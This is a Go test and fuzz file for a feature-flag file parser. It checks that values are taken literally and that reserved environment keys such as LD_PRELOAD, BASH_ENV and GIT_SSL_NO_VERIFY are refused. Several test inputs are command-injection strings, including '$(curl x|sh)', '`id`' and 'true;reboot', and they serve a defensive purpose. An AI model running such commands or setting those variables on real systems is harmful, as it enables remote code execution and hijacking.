package features

import (
	"errors"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestParse(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name    string
		in      string
		want    map[string]string
		wantErr string
	}{
		{name: "empty", in: "", want: map[string]string{}},
		{name: "flag", in: "ENABLE_PROVISIONING_HOTFIX=true\n", want: map[string]string{HotfixKey: "true"}},
		{name: "no-final-newline", in: "A=1\nB=2", want: map[string]string{"A": "1", "B": "2"}},
		{name: "verbatim", in: "A=a=b=\nB=\"true\"\nC=true # c\nD= x\nE=\nF='x'", want: map[string]string{"A": "a=b=", "B": `"true"`, "C": "true # c", "D": " x", "E": "", "F": "'x'"}},
		{name: "skipped", in: "# comment\n\n export A=1\nexport B=2\nC\n C=3\n1X=y\n=x\n\ufeffG=1", want: map[string]string{}},
		{name: "no-expansion", in: "A=$(reboot)\nB=`id`\nC=${HOME}", want: map[string]string{"A": "$(reboot)", "B": "`id`", "C": "${HOME}"}},
		{name: "reserved-in-values", in: "PATH=/x\n_X=1", want: map[string]string{"PATH": "/x", "_X": "1"}},
		{name: "non-utf8", in: "A=\xff\xfe\nX=\xc3\nB=\xe2\x82", want: map[string]string{"A": "\xff\xfe", "X": "\xc3", "B": "\xe2\x82"}},
		{name: "max-lines", in: strings.Repeat("#\n", MaxLines), want: map[string]string{}},
		{name: "max-size", in: "PAD=" + strings.Repeat("x", MaxSize-4), want: map[string]string{"PAD": strings.Repeat("x", MaxSize-4)}},
		{name: "crlf", in: "A=1\nENABLE_PROVISIONING_HOTFIX=true\r\n", wantErr: "contains a carriage return at line 2 (CRLF line endings?)"},
		{name: "lone-cr", in: "A=1\rB=2", wantErr: "carriage return at line 1"},
		{name: "nul", in: "A=1\nB=\x00", wantErr: "contains a NUL byte at line 2"},
		{name: "duplicate", in: "A=1\nB=2\nA=1\n", wantErr: "key A set twice (lines 1 and 3)"},
		{name: "duplicate-reserved", in: "PATH=/x\nPATH=/y\n", wantErr: "key PATH set twice"},
		{name: "duplicate-merged-utf8", in: "ENABLE_PROVISIONING_HOTFIX=true\nX=\xc3\nENABLE_PROVISIONING_HOTFIX=false\n", wantErr: "set twice"},
		{name: "too-many-lines", in: strings.Repeat("#\n", MaxLines+1), wantErr: "more than 256 lines"},
		{name: "too-many-blank-lines", in: strings.Repeat("#\n", MaxLines) + "\n", wantErr: "more than 256 lines"},
		{name: "too-large", in: "PAD=" + strings.Repeat("x", MaxSize-3), wantErr: "larger than 65536 bytes"},
	}
	for _, tt := range tests {
		got, err := Parse([]byte(tt.in))
		if tt.wantErr != "" {
			if !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), tt.wantErr) {
				t.Errorf("%s: Parse error = %v, want ErrInvalid with %q", tt.name, err, tt.wantErr)
			}
			if got != nil {
				t.Errorf("%s: Parse = %q with an error, want nil", tt.name, got)
			}
			continue
		}
		if err != nil {
			t.Errorf("%s: Parse: %v", tt.name, err)
			continue
		}
		if diff := cmp.Diff(tt.want, got); diff != "" {
			t.Errorf("%s: Parse mismatch (-want +got):\n%s", tt.name, diff)
		}
	}
}

// TestParseNotes checks what a reader keeps besides the values: the pairs a
// child may receive and why every other line gives it nothing.
func TestParseNotes(t *testing.T) {
	t.Parallel()
	in := strings.Join([]string{
		"# comment",
		"",
		"FUNCNEST=1",
		"LD_PRELOAD=x",
		"BASH_ENV=x",
		"NODE_EXTRA_CA_CERTS=x",
		"GIT_SSL_NO_VERIFY=1",
		"_X=1",
		"http_proxy=http://x",
		"ENABLE_PROVISIONING_HOTFIX=true",
		"export B=2",
		"C",
		"A-B\t=1",
		strings.Repeat("K", 100) + " =1",
		"MY_FLAG= a b ",
	}, "\n")
	got, err := parse([]byte(in))
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	want := File{
		Values: map[string]string{
			"FUNCNEST": "1", "LD_PRELOAD": "x", "BASH_ENV": "x", "NODE_EXTRA_CA_CERTS": "x",
			"GIT_SSL_NO_VERIFY": "1", "_X": "1", "http_proxy": "http://x", HotfixKey: "true", "MY_FLAG": " a b ",
		},
		Accepted: []Pair{{Key: HotfixKey, Value: "true"}, {Key: "MY_FLAG", Value: " a b "}},
		Notes: []Note{
			{Line: 3, Reason: "reserved key FUNCNEST (shell variable)"},
			{Line: 4, Reason: "reserved key LD_PRELOAD (dynamic loader or libc variable)"},
			{Line: 5, Reason: "reserved key BASH_ENV (shell variable)"},
			{Line: 6, Reason: "reserved key NODE_EXTRA_CA_CERTS (TLS trust variable)"},
			{Line: 7, Reason: "reserved key GIT_SSL_NO_VERIFY (tool or interpreter variable)"},
			{Line: 8, Reason: "reserved key _X (agent variable)"},
			{Line: 9, Reason: "reserved key http_proxy (proxy variable)"},
			{Line: 11, Reason: `invalid key "export B"`},
			{Line: 12, Reason: "not KEY=VALUE"},
			{Line: 13, Reason: `invalid key "A-B\t"`},
			{Line: 14, Reason: `invalid key "` + strings.Repeat("K", maxNoteKey) + `"...`},
		},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("parse mismatch (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]string{"ENABLE_PROVISIONING_HOTFIX=true", "MY_FLAG= a b "}, got.Env()); diff != "" {
		t.Errorf("Env() mismatch (-want +got):\n%s", diff)
	}
}

func TestParseHotfixFlag(t *testing.T) {
	t.Parallel()
	tests := []struct {
		in   string
		want bool
	}{
		{"ENABLE_PROVISIONING_HOTFIX=true\n", true},
		{"ENABLE_PROVISIONING_HOTFIX=true", true},
		{"ENABLE_PROVISIONING_HOTFIX=\"true\"\n", false},
		{"ENABLE_PROVISIONING_HOTFIX='true'\n", false},
		{"ENABLE_PROVISIONING_HOTFIX=true \n", false},
		{"ENABLE_PROVISIONING_HOTFIX= true\n", false},
		{"ENABLE_PROVISIONING_HOTFIX=TRUE\n", false},
		{"ENABLE_PROVISIONING_HOTFIX=1\n", false},
		{"ENABLE_PROVISIONING_HOTFIX=true # on\n", false},
		{"ENABLE_PROVISIONING_HOTFIX=true;reboot\n", false},
		{"ENABLE_PROVISIONING_HOTFIX=\n", false},
		{"ENABLE_PROVISIONING_HOTFIX\n", false},
		{"# ENABLE_PROVISIONING_HOTFIX=true\n", false},
		{" ENABLE_PROVISIONING_HOTFIX=true\n", false},
		{"export ENABLE_PROVISIONING_HOTFIX=true\n", false},
		{"enable_provisioning_hotfix=true\n", false},
		{"\ufeffENABLE_PROVISIONING_HOTFIX=true\n", false},
		{"", false},
	}
	for _, tt := range tests {
		f, err := parse([]byte(tt.in))
		if err != nil {
			t.Errorf("parse(%q): %v", tt.in, err)
			continue
		}
		if got := f.HotfixEnabled(); got != tt.want {
			t.Errorf("parse(%q).HotfixEnabled() = %v, want %v", tt.in, got, tt.want)
		}
	}
}

// parseSeeds are the feature-flag rows of security.md §5 (1–4) in the flag's
// real spelling, plus grammar and limit corners.
var parseSeeds = []string{
	"",
	"ENABLE_PROVISIONING_HOTFIX=true\n",
	"ENABLE_PROVISIONING_HOTFIX=false\n",
	"ENABLE_PROVISIONING_HOTFIX=true\r\n",
	"A=1\nENABLE_PROVISIONING_HOTFIX=true\r\n",
	"ENABLE_PROVISIONING_HOTFIX=$(curl x|sh)\n",
	"ENABLE_PROVISIONING_HOTFIX=`reboot`\n",
	"ENABLE_PROVISIONING_HOTFIX=true\nENABLE_PROVISIONING_HOTFIX=false\n",
	" ENABLE_PROVISIONING_HOTFIX = true\n",
	"\ufeffENABLE_PROVISIONING_HOTFIX=true\n",
	"ENABLE_PROVISIONING_HOTFIX=true\x00\n",
	"\n\n=\n#x\n",
	"1X=y\nX1=y\n_=y\n",
	"PATH=/x\nLD_PRELOAD=/x\nHOTFIX_BIN=/x\n_SELECTED_BIN=/x\nFUNCNEST=1\nOK=1\n",
	"A=\xff\xfe\nB\xc3\xa9=1\nC=\xc3\xa9\n",
	"A=\\\nB=\\n\n",
	strings.Repeat("#\n", MaxLines),
	strings.Repeat("#\n", MaxLines+1),
	"PAD=" + strings.Repeat("x", MaxSize-4),
	"PAD=" + strings.Repeat("x", MaxSize-3),
}

// FuzzParse checks that parsing arbitrary input never panics and that a
// parsed file is consistent: identifier keys with single-line values, every
// valid pair either accepted (in file order) or refused with a note, and
// never a reserved key in Env.
func FuzzParse(f *testing.F) {
	for _, s := range parseSeeds {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		got, err := parse(data)
		m, mErr := Parse(data)
		if (err == nil) != (mErr == nil) {
			t.Fatalf("parse(%q) error %v, Parse error %v", data, err, mErr)
		}
		if err != nil {
			if !errors.Is(err, ErrInvalid) {
				t.Fatalf("parse(%q) error %v does not wrap ErrInvalid", data, err)
			}
			return
		}
		if diff := cmp.Diff(got.Values, m); diff != "" {
			t.Fatalf("Parse(%q) differs from parse's Values (-parse +Parse):\n%s", data, diff)
		}
		for k, v := range got.Values {
			if !ValidKey(k) || strings.ContainsAny(v, "\r\n\x00") {
				t.Fatalf("parse(%q) produced %q=%q", data, k, v)
			}
		}
		reserved := 0
		for k := range got.Values {
			if _, ok := Reserved(k); ok {
				reserved++
			}
		}
		if len(got.Accepted)+reserved != len(got.Values) {
			t.Fatalf("parse(%q): %d accepted + %d reserved != %d values", data, len(got.Accepted), reserved, len(got.Values))
		}
		for _, p := range got.Accepted {
			if _, ok := Reserved(p.Key); ok || got.Values[p.Key] != p.Value {
				t.Fatalf("parse(%q) accepted %s=%q", data, p.Key, p.Value)
			}
		}
		lineOfKey := map[string]int{}
		for i, line := range strings.Split(string(data), "\n") {
			if k, _, ok := strings.Cut(line, "="); ok {
				if _, seen := lineOfKey[k]; !seen {
					lineOfKey[k] = i
				}
			}
		}
		for i := 1; i < len(got.Accepted); i++ {
			if lineOfKey[got.Accepted[i-1].Key] >= lineOfKey[got.Accepted[i].Key] {
				t.Fatalf("parse(%q) accepted out of file order: %v", data, got.Accepted)
			}
		}
		for i := 1; i < len(got.Notes); i++ {
			if got.Notes[i-1].Line >= got.Notes[i].Line {
				t.Fatalf("parse(%q) notes out of order: %v", data, got.Notes)
			}
		}
	})
}
